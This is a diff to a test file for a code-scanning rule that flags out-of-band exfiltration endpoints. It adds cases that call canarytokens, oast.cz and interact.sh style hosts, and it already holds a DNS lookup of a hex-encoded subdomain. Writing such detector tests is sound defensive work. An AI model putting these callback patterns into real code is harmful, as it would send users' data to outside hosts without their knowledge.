@@ -1,5 +1,7 @@
 # Test for oob-exfil-endpoint (defanged: subdomains are made up, nothing is sent).
+import os
 import socket
+import webbrowser
 
 import requests
 
@@ -24,3 +26,11 @@ socket.gethostbyname("4142434445464748494a4b4c4d4e4f505152535455565758595a5b5c5d
 CANARY = "https://x9y8z7.interact.sh/c"
 # ruleid: oob-exfil-endpoint
 requests.get(CANARY, params={"u": "x"})
+# ruleid: oob-exfil-endpoint
+canary = os.environ.get("CANARY_URL", "http://canarytokens.com/images/tags/abcdefghij0123456789xy/payments.js")
+# ruleid: oob-exfil-endpoint
+webbrowser.open_new_tab("https://c0ffee12.oast.cz?id=pkg-1")
+# ok: oob-exfil-endpoint
+docs = "https://docs.canarytokens.org/guide/"
+# ok: oob-exfil-endpoint
+coast = "https://toast.coast.example.invalid/"
